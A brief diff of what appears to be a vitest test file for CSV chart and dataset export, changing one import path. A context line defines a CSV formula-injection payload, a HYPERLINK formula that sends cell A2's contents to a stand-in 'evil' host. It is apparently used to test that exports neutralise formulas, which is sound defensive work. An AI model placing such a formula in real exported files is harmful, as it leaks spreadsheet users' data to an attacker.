@@ -5,7 +5,7 @@ import { expect, test } from 'vitest';
 import { chartCsv, csvText } from '../../src/charts/csv.ts';
 import { chartData } from '../../src/charts/rows.ts';
 import type { ChartSpec } from '../../src/charts/types.ts';
-import { datasetCsv } from '../../src/build/datasetCsv.ts';
+import { datasetCsv } from '../../src/outputs/datasetCsv.ts';
 import { csv, load } from '../data/helpers.ts';
 
 const EVIL = '=HYPERLINK("http://evil/?"&A2,"点击")';
